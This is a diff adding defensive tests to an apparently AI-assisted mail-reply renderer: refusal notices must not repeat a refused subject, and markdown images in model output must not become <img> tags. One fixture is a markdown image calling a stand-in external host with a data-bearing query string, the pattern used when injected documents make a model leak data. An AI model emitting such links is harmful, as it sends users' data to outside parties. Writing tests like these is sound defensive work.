@@ -102,6 +102,23 @@ def test_a_subject_adds_no_header(bad: str) -> None:
     assert "\u202e" not in mail["Subject"]
 
 
+def test_service_words_repeat_no_subject() -> None:
+    """A refusal does not send again what was refused, nor does any word on a mail that was not looked at."""
+    data, mail = rendered(subject="SECRET DÉFENSE : opération bleu-canard", notice=True)
+    assert mail["Subject"] == "Re: Votre message"
+    assert b"canard" not in data
+
+
+def test_an_answer_loads_nothing() -> None:
+    """What a document made the model write calls nobody when the mail is opened: an image stays its text."""
+    _, mail = rendered(
+        "![Total](https://ailleurs.example/x.png?n=185057800608491) et ![a](data:image/png;base64,AA)"
+    )
+    html = part(mail, "html")
+    assert "<img" not in html
+    assert "Total" in html
+
+
 def test_nobody_else_is_named() -> None:
     """Point 14: one recipient, no copy, no Reply-To."""
     _, mail = rendered()
